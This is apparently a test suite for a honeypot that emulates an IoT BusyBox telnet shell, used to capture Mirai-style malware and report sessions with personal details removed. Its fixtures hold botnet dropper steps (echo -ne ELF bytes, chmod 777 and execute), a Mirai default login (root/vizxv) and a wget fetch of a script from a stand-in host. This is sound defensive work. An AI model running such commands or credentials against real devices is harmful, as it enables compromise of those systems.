import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Shell } from '../../src/honeypot/shell/shell.js';
import { FakeFs } from '../../src/honeypot/fs.js';
import { defaultPersona } from '../../src/honeypot/persona.js';
import { parseLine } from '../../src/honeypot/shell/parse.js';

function newShell(): { shell: Shell; executed: string[] } {
  const executed: string[] = [];
  const shell = new Shell(defaultPersona, new FakeFs(defaultPersona), {
    fetch: async () => null,
    tftp: async () => null,
    executed: (p) => void executed.push(p),
  });
  return { shell, executed };
}

const run = async (s: Shell, line: string): Promise<string> =>
  (await s.execute(line)).output.toString('latin1');

test('parser: operators, quotes and fd redirections', () => {
  const steps = parseLine(`cd /tmp || cd /var/run; echo "a b" 'c' > f 2>/dev/null && cat f | grep a`);
  assert.equal(steps.length, 4);
  assert.deepEqual(steps[0].pipeline[0].argv, ['cd', '/tmp']);
  assert.equal(steps[1].join, '||');
  assert.deepEqual(steps[2].pipeline[0].argv, ['echo', 'a b', 'c']);
  assert.deepEqual(steps[2].pipeline[0].out, { path: 'f', append: false });
  assert.equal(steps[3].join, '&&');
  assert.deepEqual(
    steps[3].pipeline.map((c) => c.argv[0]),
    ['cat', 'grep'],
  );
  assert.throws(() => parseLine(`echo 'open`), /unterminated/);
});

test('Mirai busybox probe answers applet not found', async () => {
  const { shell } = newShell();
  assert.equal(await run(shell, '/bin/busybox ECCHI'), 'ECCHI: applet not found\n');
  assert.match(
    await run(shell, 'enable; system; shell; sh; /bin/busybox MIRAI'),
    /^MIRAI: applet not found\n$/,
  );
  assert.match(await run(shell, 'busybox uname -m'), /armv7l/);
});

test('echo -ne assembles exact bytes; executing it captures a sample', async () => {
  const { shell, executed } = newShell();
  await run(shell, 'cd /tmp');
  await run(shell, `echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > .d; echo -ne "\\x02\\x00\\101" >> .d`);
  const n = shell.fs.get('/tmp/.d');
  assert.ok(n);
  assert.deepEqual([...n.data], [0x7f, 0x45, 0x4c, 0x46, 0x01, 0x02, 0x00, 0x41]);
  assert.match(await run(shell, './.d'), /Permission denied/);
  assert.equal(executed.length, 0);
  await run(shell, 'chmod 777 .d && ./.d telnet.x86');
  assert.deepEqual(executed, ['/tmp/.d']);
});

test('filesystem is consistent: cp, mv, rm, ls, cat /proc', async () => {
  const { shell } = newShell();
  assert.equal(await run(shell, 'pwd'), '/root\n');
  await run(shell, 'cd /var/run && cp /bin/echo dvrHelper && mv dvrHelper x && ls');
  assert.match(await run(shell, 'ls /var/run'), /x/);
  assert.doesNotMatch(await run(shell, 'ls /var/run'), /dvrHelper/);
  await run(shell, 'rm x');
  assert.match(await run(shell, 'cat x'), /No such file/);
  assert.match(await run(shell, 'cat /proc/cpuinfo'), /ARMv7/);
  assert.match(await run(shell, 'cat /proc/mounts | grep tmp'), /not found/); // grep is not a BusyBox applet here
  assert.match(await run(shell, 'nosuchthing'), /sh: nosuchthing: not found/);
  assert.match(await run(shell, 'uname -a'), /^Linux IPC-3516 3\.10\.0 .* armv7l GNU\/Linux\n$/);
  assert.match(await run(shell, 'cd /nope'), /can't cd to \/nope/);
});

test('sh runs scripts from the fake filesystem, depth-bounded', async () => {
  const { shell, executed } = newShell();
  await run(shell, `echo 'echo hello; sh /tmp/s' > /tmp/s`);
  const out = await run(shell, 'sh /tmp/s');
  assert.ok(out.startsWith('hello\n'));
  assert.ok(out.split('hello').length - 1 <= 6);
  assert.deepEqual([...new Set(executed)], ['/tmp/s']);
});

test('A-64: an interaction without a sample is reported desensitised and privacy-checked', async () => {
  const { interactionReport } = await import('../../src/honeypot/report.js');
  const { Pseudonymiser } = await import('../../src/dataset/index.js');
  const p = new Pseudonymiser(Buffer.alloc(32, 7));
  const rec = {
    id: 'hp-1',
    service: 'telnet',
    peerIp: '203.0.113.50',
    peerPort: 40000,
    localPort: 23,
    start: '2026-01-01T00:00:00Z',
    credentials: [{ user: 'root', password: 'vizxv', accepted: true }],
    commands: [
      {
        at: '2026-01-01T00:00:01Z',
        line: 'wget http://198.51.100.9/x.sh; echo admin@victim.example.com',
        route: 'emulator' as const,
      },
    ],
    downloads: [{ url: 'http://198.51.100.9/x.sh', tool: 'wget', status: 'out-of-scope' as const }],
    samples: [],
    bytesIn: 10,
    bytesOut: 20,
  };
  const text = JSON.stringify(interactionReport(rec, p));
  for (const s of ['203.0.113.50', 'vizxv', '198.51.100.9', 'admin@victim.example.com'])
    assert.ok(!text.includes(s), s);
  assert.match(text, /"service":"telnet"/);
});
